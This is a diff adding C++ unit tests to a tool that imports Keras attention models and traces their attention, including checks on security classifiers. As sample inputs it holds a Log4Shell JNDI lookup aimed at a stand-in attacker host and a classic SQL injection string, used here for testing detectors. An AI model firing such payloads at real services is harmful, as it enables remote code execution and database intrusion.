@@ -79,10 +79,12 @@ TEST_P(KerasFixture, MatchesKerasFormulas) {
 }
 
 INSTANTIATE_TEST_SUITE_P(KerasImport, KerasFixture,
-                         ::testing::Values("seed_b_keras2.h5", "pool_gru_keras3.h5", "seed_a_keras3.h5",
+                         ::testing::Values("seed_b_keras2.h5", "pool_gru_keras3.h5", "pool_gru.keras", "seed_a_keras3.h5",
                                            "custom_keras2.h5", "additive_gru_keras2.h5"),
                          [](const auto& info) {
-                             std::string n = info.param.substr(0, info.param.find('.'));
+                             std::string n = info.param;
+                             for (char& c : n)
+                                 if (c == '.') c = '_';
                              return n;
                          });
 
@@ -221,6 +223,99 @@ TEST(KerasImport, BrokenFilesEndWithAMessage) {
         EXPECT_EQ(r.status, 2) << keep << ": " << r.err;
     }
     std::filesystem::remove_all(dir);
+}
+
+}  // namespace
+}  // namespace lstmscope
+
+namespace lstmscope {
+namespace {
+
+// The three real third-party files of ../shared/samples/keras (never copied
+// into the repository; skipped where they are absent). Their vocabularies
+// were never published (pickles of project classes), so the tests make up
+// character vocabularies of the right size: what is checked is that each
+// file converts, runs, and shows its attention where it should.
+const std::string kSamples = LSTMSCOPE_KERAS_SAMPLES;
+
+std::string vocabulary_file(const std::string& name, const std::vector<std::string>& entries) {
+    const auto path = std::filesystem::temp_directory_path() / name;
+    std::ofstream out(path);
+    for (const auto& e : entries) out << e << '\n';
+    return path.string();
+}
+
+std::vector<std::string> printable_ascii(size_t count) {
+    std::vector<std::string> v{"<pad>", "<OOV>"};
+    for (char c = '!'; c <= '~' && v.size() < count; ++c) v.push_back(std::string(1, c));
+    return v;
+}
+
+double row_sum(const Matrix& m, Eigen::Index r) { return m.row(r).sum(); }
+
+TEST(KerasRealFiles, LogShieldStockLayerAttention) {
+    const std::string file = kSamples + "/logshield_bilstm_attention.h5";
+    if (!std::filesystem::exists(file)) GTEST_SKIP() << file << " is not here";
+    ImportOptions o;
+    o.tokenizer = vocabulary_file("logshield_vocab.txt", printable_ascii(93));
+    o.tokenizer_type = "char";
+    const Model model = Model::load(file, o);
+    const Trace trace = run(model, "${jndi:ldap://attacker.example/a}");
+    EXPECT_EQ(trace.tokens.size(), 512u);  // padded to the input length, as in training
+    const NodeTrace* a = trace.find("attention_weights");
+    ASSERT_NE(a, nullptr);
+    EXPECT_EQ(a->op, OpKind::AttentionPool);
+    ASSERT_EQ(a->attention.size(), 1u);
+    EXPECT_EQ(a->attention[0].cols(), 512);
+    EXPECT_NEAR(row_sum(a->attention[0], 0), 1.0, 1e-5);
+    const double p = trace.output()(0, 0);
+    EXPECT_TRUE(p > 0.0 && p < 1.0) << p;
+}
+
+TEST(KerasRealFiles, SqlInjectionCustomLayerByRecogniserAndByMappingFile) {
+    const std::string file = kSamples + "/somioss_sqli_attention_lstm_model.h5";
+    if (!std::filesystem::exists(file)) GTEST_SKIP() << file << " is not here";
+    ImportOptions o;
+    o.tokenizer = vocabulary_file("sqli_vocab.txt", printable_ascii(80));
+    o.tokenizer_type = "keras_char";
+    const std::string text = "select * from users where id = 1 or 1=1 --";
+    const Model builtin = Model::load(file, o);
+    const Trace t1 = run(builtin, text);
+    ASSERT_NE(t1.find("attention"), nullptr);
+    EXPECT_EQ(t1.find("attention")->op, OpKind::AttentionPool);
+
+    o.custom_layers = kDir + "attention_map.json";  // AttentionLayer: tanh(x W + b) pooling
+    const Trace t2 = run(Model::load(file, o), text);
+    EXPECT_EQ(t2.output()(0, 0), t1.output()(0, 0));
+    EXPECT_EQ(t2.find("attention")->attention[0], t1.find("attention")->attention[0]);
+}
+
+TEST(KerasRealFiles, ChineseWeightsOnlyWithItsDoubleEncodedYaml) {
+    const std::string file = kSamples + "/jiahenghuang_bilstm_attention.weights.h5";
+    const std::string yaml = kSamples + "/jiahenghuang_bilstm_attention.architecture.yml";
+    if (!std::filesystem::exists(file)) GTEST_SKIP() << file << " is not here";
+    std::vector<std::string> chars{"<pad>", "<unk>"};
+    for (const char* c : {"我", "想", "听", "周", "杰", "伦", "的", "歌", "明", "天", "气", "怎", "么", "样"})
+        chars.push_back(c);
+    ImportOptions o;
+    o.tokenizer = vocabulary_file("zh_vocab.txt", chars);
+    o.tokenizer_type = "char";
+    const std::string message = error_of([&] { Model::load(file, o); });
+    EXPECT_NE(message.find("--architecture"), std::string::npos) << message;
+
+    o.architecture = yaml;
+    const Model model = Model::load(file, o);
+    const Trace trace = run(model, "我想听周杰伦的歌");
+    EXPECT_EQ(trace.tokens.size(), 30u);
+    const NodeTrace* a = trace.find("attention_layer");
+    ASSERT_NE(a, nullptr);
+    EXPECT_EQ(a->op, OpKind::FeatureAttention);
+    ASSERT_EQ(a->attention.size(), 1u);
+    EXPECT_EQ(a->attention[0].rows(), 100);  // one distribution per BiLSTM feature
+    EXPECT_EQ(a->attention[0].cols(), 30);   // over the 30 positions
+    for (Eigen::Index r = 0; r < 100; r += 33) EXPECT_NEAR(row_sum(a->attention[0], r), 1.0, 1e-5);
+    EXPECT_NEAR(trace.output().sum(), 1.0, 1e-5);  // six classes, softmax
+    EXPECT_EQ(trace.output().cols(), 6);
 }
 
 }  // namespace
